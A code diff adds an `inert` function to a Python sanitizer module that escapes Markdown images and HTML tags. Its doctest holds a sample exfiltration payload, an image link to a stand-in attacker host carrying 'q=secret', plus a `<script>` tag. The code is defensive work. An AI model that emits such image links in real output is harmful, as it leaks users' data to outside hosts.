@@ -8,6 +8,7 @@ smuggling).
 import re
 
 MARK = "\ufffd"
+_LOADED = re.compile(r"!(?=\[)|<(?=[A-Za-z/!?])")  # how an image or an element begins in Markdown
 _UNSAFE = re.compile(
     "["
     "\x00-\x08\x0b-\x1f\x7f-\x9f"  # C0 and C1 controls but tab and newline
@@ -32,3 +33,12 @@ def neutral(text: str) -> str:
     if (text.isascii() and text.isprintable()) or not _UNSAFE.search(text):
         return text
     return _UNSAFE.sub(MARK, text.replace("\r\n", "\n"))
+
+
+def inert(markdown: str) -> str:
+    """Return *markdown* in which stored text cannot make a reader's program fetch or run anything: images and HTML elements are escaped.
+
+    >>> inert("- see ![x](https://evil.example/?q=secret) <script>")
+    '- see \\\\![x](https://evil.example/?q=secret) \\\\<script>'
+    """
+    return _LOADED.sub(r"\\\g<0>", markdown)
